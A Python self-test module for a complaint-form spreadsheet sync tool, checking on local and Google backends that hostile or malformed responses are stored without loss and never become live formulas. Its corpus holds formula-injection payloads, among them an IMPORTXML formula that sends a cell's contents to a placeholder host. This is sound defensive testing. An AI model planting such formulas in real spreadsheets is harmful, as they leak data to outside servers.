"""Check 4: hostile and broken input (a fixed corpus and hypothesis), on both backends."""

from __future__ import annotations

import contextlib
import logging
import tempfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from config.settings import Settings
from googledouble.forms import google_spreadsheet
from rules.complaint import FIELDS
from rules.errors import SapaError
from sync.commands.bench import BUSY_AT
from sync.commands.selftest.common import (
    RESPONSES_TAB,
    all_accounted,
    make_ctx,
)
from sync.commands.selftest.office import GoogleBackend, LocalBackend, response_row
from sync.cycle.run import run_cycle

NO_HYPOTHESIS = "the sweep needs hypothesis: pip install -r requirements-dev.txt"

# --- 4. hostile input ---------------------------------------------------------------------------

_HOSTILE = [
    "=1+1", "+SUM(1)", "-2+3", "@x", "\t=1", "\r=1", "\n=1",
    '=IMPORTXML("http://contoh.invalid/?d="&A2, "//a")', '=IMPORTDATA("http://contoh.invalid/x.csv")',
    '=HYPERLINK("http://contoh.invalid","klik")', "x" * 50_001, "Korban 😀 محمد 王小明 Ñandú",
    "a\x00b\x07c\x1bd", "{{victim_name}}", "\u202e=1",
]


def _hostile_rows() -> list[dict[str, object]]:
    rows: list[dict[str, object]] = []
    text_fields = [f for f in FIELDS if f != "timestamp"]
    for i, value in enumerate(_HOSTILE):
        field = text_fields[i % len(text_fields)]
        rows.append(response_row(**{field: value, "story": value, "victim_name": f"{value[:80]} {i}"}))
    rows.append({f: None for f in FIELDS} | {"timestamp": datetime(2026, 11, 28, 9, 45)})  # blank answers
    return rows


# The form tab's name, layout, and the words a staff-readable message must hold ("" = none expected).
Layout = tuple[str, list[list[object]], str]


def _layouts() -> dict[str, Layout]:
    """Whole responses tabs (header + rows): the corpus, and broken structures."""
    questions = Settings().form.questions
    header: list[object] = [questions[f] for f in FIELDS]

    def grid(rows: list[dict[str, object]], order: list[str] | None = None,
             extra: bool = False) -> list[list[object]]:
        fields = order or list(FIELDS)
        head: list[object] = [*(questions[f] for f in fields), *(["Pertanyaan tambahan"] if extra else [])]
        body = [[None if r.get(f) == "" else r.get(f) for f in fields] + (["jawaban"] if extra else [])
                for r in rows]
        return [head, *body]

    rows = _hostile_rows()
    reordered = list(reversed(FIELDS))
    missing = [f for f in FIELDS if f not in ("victim_name", "story")]
    no_time = [f for f in FIELDS if f != "timestamp"]
    return {
        # its hostile answers to choice questions are unknown options: said, never taken as absent
        "corpus": (RESPONSES_TAB, [*grid(rows[:8]), [None] * len(FIELDS), *grid(rows[8:])[1:]], "names no option"),
        "reordered+extra": (RESPONSES_TAB, grid(rows[:5], reordered, extra=True),
                            "new column 'Pertanyaan tambahan'"),
        "missing columns": (RESPONSES_TAB, grid(rows[:5], missing), f"'{questions['story']}' is missing"),
        "missing timestamp": (RESPONSES_TAB, grid(rows[:5], no_time), f"'{questions['timestamp']}' is missing"),
        "duplicate header": (RESPONSES_TAB, [[*header, header[1]], *[[*r, "dup"] for r in grid(rows[:5])[1:]]],
                             "appears more than once"),
        "no form tab": ("Lembar1", grid(rows[:3]), RESPONSES_TAB),
    }


def _workbook(path: Path, tab: str, data: list[list[object]]) -> None:
    """A form tab as a Google Form download keeps it: text as text (xlsx cannot hold control characters)."""

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = tab
    for r, row in enumerate(data, start=1):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(row=r, column=c)
            if isinstance(value, str):
                cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)[:32767]
                cell.data_type = "s"
            else:
                cell.value = value
    book.save(path)


def hostile_input(examples: int = 15, *, sweep_required: bool = False) -> tuple[str, bool]:
    """The fixed corpus and broken layouts on both backends, then `examples` random tabs per backend
    (without hypothesis installed, none: a failure when `sweep_required`, as for `selftest --slow`)."""
    corpus, corpus_ok = _corpus()
    sweep, sweep_ok = _sweep(examples, required=sweep_required)
    return f"hostile input: {corpus}; {sweep}", corpus_ok and sweep_ok


def _sweep(examples: int, *, required: bool = False) -> tuple[str, bool]:
    """The property (strategies.py), derandomized, on each backend: this is its only sweep."""
    try:
        from hypothesis import HealthCheck, Phase, Verbosity, given, settings  # lazy: a development dependency

        from sync.commands.selftest.strategies import ROWS, keeps_every_response_and_makes_no_formula  # lazy: as above
    except ImportError:  # the worker's own install: the fixed corpus is checked, the random tabs are not
        return f"no random form tabs ({NO_HYPOTHESIS})", not required

    ctx = make_ctx()
    ran: dict[str, int] = {}
    cells, failures = 0, []

    def run(make: Any) -> None:
        @settings(max_examples=examples, derandomize=True, database=None, deadline=None,
                  phases=[Phase.generate], verbosity=Verbosity.quiet, suppress_health_check=list(HealthCheck))
        @given(ROWS)
        def prop(rows: list[dict[str, object]]) -> None:
            nonlocal cells
            with tempfile.TemporaryDirectory() as tmp:
                cells += keeps_every_response_and_makes_no_formula(make(Path(tmp)), rows, ctx, BUSY_AT)
            ran[make.name] += 1

        prop()

    for make in (LocalBackend, GoogleBackend):
        ran[make.name] = 0
        try:
            run(make)
        except Exception as err:  # the property failed: name it, first line only (random text, no personal data)
            failures.append(f"{make.name}: {type(err).__name__}: {str(err).splitlines()[0][:160] if str(err) else ''}")
    ok = not failures and all(n >= examples for n in ran.values())
    figure = (f"hypothesis {' + '.join(f'{n} {k}' for k, n in ran.items())} random form tabs kept every "
              f"response, {cells} cells checked, 0 formulas")
    if failures:
        figure = f"hypothesis FAILED: {'; '.join(failures)}"
    return figure, ok


def _corpus() -> tuple[str, bool]:
    """Each layout on each backend: no crash, every response a case or a review row, no formula, and
    a structural problem said in a message naming it (a warning in the log, or the error itself)."""

    ctx = make_ctx()
    ok_runs, notes, formulas, total, checked = 0, [], 0, 0, 0
    for label, (tab, data, words) in _layouts().items():
        for kind in ("local", "google"):
            total += 1
            with tempfile.TemporaryDirectory() as tmp, _warnings() as said:
                backend: Any
                if kind == "local":
                    backend = LocalBackend(Path(tmp))
                    _workbook(backend.path, tab, data)
                else:
                    backend = GoogleBackend(Path(tmp))
                    backend.spreadsheet_id = google_spreadsheet(backend.double, tab, data)
                try:
                    run_cycle(backend.store(), ctx, BUSY_AT, backend.writer())
                    stable = not run_cycle(backend.store(), ctx, BUSY_AT, backend.writer()).plan
                    accounted = all_accounted({t: backend.tab(t) for t in backend.tabs()}, ctx, BUSY_AT)
                except SapaError as err:  # a structural problem the worker cannot go past
                    said.append(str(err))
                    stable, accounted = True, tab != RESPONSES_TAB
                told = any(words in line for line in said) if words else not said
                cells = backend.cells()
                checked += len(cells)
                bad = [c for c in cells if c[2]]
                formulas += len(bad)
                if stable and accounted and told and not bad:
                    ok_runs += 1
                else:
                    notes.append(f"{label}/{kind}: stable={stable} accounted={accounted} told={told} "
                                 f"formulas={len(bad)}")
    figure = (f"corpus {ok_runs}/{total} layouts x backends without crash, loss or formula, structural problems "
              f"named ({checked} cells checked, {formulas} formulas)")
    if notes:
        figure += "; " + "; ".join(notes[:4])
    return figure, ok_runs == total


@contextlib.contextmanager
def _warnings() -> Iterator[list[str]]:
    """Warning and error messages logged meanwhile."""
    said: list[str] = []

    class Keep(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            said.append(record.getMessage())

    handler = Keep(logging.WARNING)
    root = logging.getLogger()
    root.addHandler(handler)
    try:
        yield said
    finally:
        root.removeHandler(handler)
